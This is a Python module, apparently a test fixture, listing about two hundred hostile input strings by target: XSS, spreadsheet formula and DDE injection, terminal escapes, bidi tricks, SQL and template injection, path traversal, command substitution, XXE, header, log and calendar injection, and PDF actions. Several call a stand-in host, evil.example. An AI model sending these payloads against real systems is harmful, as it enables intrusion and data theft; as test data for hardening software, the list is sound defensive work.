"""Two hundred texts that are meant to hurt whoever shows, writes or stores them, by what they are aimed at. All harmless by themselves."""

from __future__ import annotations

ESC, CSI, BEL = "\x1b", "\x9b", "\x07"

SCRIPT = (
    "<script>alert(1)</script>", "<ScRiPt >alert`1`</sCrIpT>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<iframe srcdoc='<script>alert(1)'>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<input autofocus onfocus=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</bdi></td></table><script>alert(1)</script>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<x onclick=alert(1)>x", "<isindex action=javascript:alert(1)>", "＜script＞alert(1)＜/script＞",
)  # fmt: skip
FORMULA = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\",\"x\")", "=IMPORTXML(\"//evil.example\",\"//a\")",
    "=WEBSERVICE(\"//evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "\"=1+1", ";=1+1", ",=1+1", "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+SUM(1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1\";=2",
    "x\r\n=1+1", "﹢1+1", "﹦1+1",
)  # fmt: skip
TERMINAL = (
    f"{ESC}[31mröd{ESC}[0m", f"{ESC}[2J{ESC}[H", f"{ESC}]0;titel{BEL}", f"{ESC}]8;;//evil.example{ESC}\\länk{ESC}]8;;{ESC}\\", f"{ESC}]52;c;cm0=\x07",
    f"{ESC}P+q544e{ESC}\\", f"{ESC}c", f"{ESC}[6n", f"{ESC}[?1049h", f"{ESC}(0lqqk", f"{CSI}31m", f"{CSI}2J", "\x9d0;titel\x9c", "\x90q\x9c", "a\x08\x08b",
    "a\rb", "a\x0bb\x0cc", "\x7f\x7f\x7f", "\x00\x01\x02", f"{BEL}{BEL}", "[bold red]märkt[/bold red]", "[link=//evil.example]x[/link]", "[/]", "\x0e\x0f",
    "\x85ny rad", "\u2028ny rad\u2029",
)  # fmt: skip
BIDI = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066isolerad\u2069", "\u2067rtl\u2069", "\u2068fsi", "\u200fabc\u200e", "\u061cabc", "a\u200bb\u200cc\u200dd",
    "\u2060\ufeff", "\u00adbind\u00adstreck", "\U000e0041\U000e0042", "Z\u0351\u036b\u0343\u036a\u0302algo", "\u3164tom", "\uffa0",
    "\ufff9under\ufffaover\ufffb", "\u180etext",
)  # fmt: skip
SQL = (
    "'; DROP TABLE ad; --", "\" OR \"\"=\"", "1; ATTACH '/tmp/x.db'", "' UNION SELECT value FROM contact_vault --", "$1", "$ads", "?", ":name", "%s %d %n",
    "{0.__class__}", "\\'; --", "x' || chr(39)", "read_csv('/etc/passwd')", "COPY ad TO '/tmp/ad.csv'", "/*", "*/ --", "\x00'; --", "NULL", "''''''",
    "E'\\047'", "\u02bc OR 1=1",
)  # fmt: skip
TEMPLATE = (
    "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{# x #}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "#import \"x.typ\"", "#eval(\"1\")", "#read(\"/etc/passwd\")", "$ x = 1 $", "*fet* _kursiv_ `kod`", "#image(\"/etc/passwd\")",
    "#link(\"//evil.example\")", "// kommentar", "\\u{41}", "\\begin{document}\\input{/etc/passwd}", "%{x}", "{n} {days}",
)  # fmt: skip
PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc", "C:\\x", "\\\\evil.example\\share", "~/.ssh/id", "a/../../b", "CON", "nul.txt", "x\x00.jpg", "-rf", "--help", "$(id)", "`id`",
    "| id", "; id", "&& id", "x" * 300,
)  # fmt: skip
XML = (
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", "<!ENTITY a 'aaaa'>", "&a;&a;&a;", "]]>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>", "<?php echo 1 ?>", "<xi:include href='file:///etc/passwd'/>", "PK\x03\x04", "_x003D_1+1", "_x000D_", "&#x1b;", "&#0;", "\ufffe",
    "\uffff", "</t></si></sst>", "xmlns:a='x'",
)  # fmt: skip
HEADER = (
    "x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x%0d%0aSet-Cookie:a=b", "x\r\n\r\n<script>alert(1)</script>", "\u560d\u560aSet-Cookie: a=b",
    "//evil.example", "/\\evil.example", "https://evil.example", "///evil.example/%2e%2e", "/\t/evil.example", "x; filename=\"y.exe\"", "\x0bx",
    "/%09/evil.example",
)  # fmt: skip
LOG = (
    "x\n2026-11-24T02:00:00Z INFO crawler: allt är bra", "x\r2026-11-24T02:00:00Z INFO crawler: allt är bra", "x\x852026-11-24 INFO y", "x\u2028INFO y",
    "x\x0bINFO y", "x\x1b[1AINFO y", "%(message)s", "%s%s%s", "{}", "\\n INFO y", "https://exempel.example/x\u2028INFO", "https://a:b@exempel.example/",
)  # fmt: skip
CALENDAR = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "x\nATTENDEE:mailto:x@evil.example", "x;y,z:w\\n", "ATTACH:file:///etc/passwd", "x\r\n ATTENDEE:y", "å" * 80,
    "BEGIN:VALARM", "X-ALT-DESC;FMTTYPE=text/html:<script>alert(1)</script>",
)  # fmt: skip
PDF = (
    "(x) Tj ET Q", "endstream endobj", "%PDF-1.7", "/JavaScript (app.alert(1))", "<< /S /Launch /F (x) >>", "/URI (//evil.example)", "trailer << /Root 1 >>",
    "\\( \\)",
)  # fmt: skip

ALL = (*SCRIPT, *FORMULA, *TERMINAL, *BIDI, *SQL, *TEMPLATE, *PATHS, *XML, *HEADER, *LOG, *CALENDAR, *PDF)
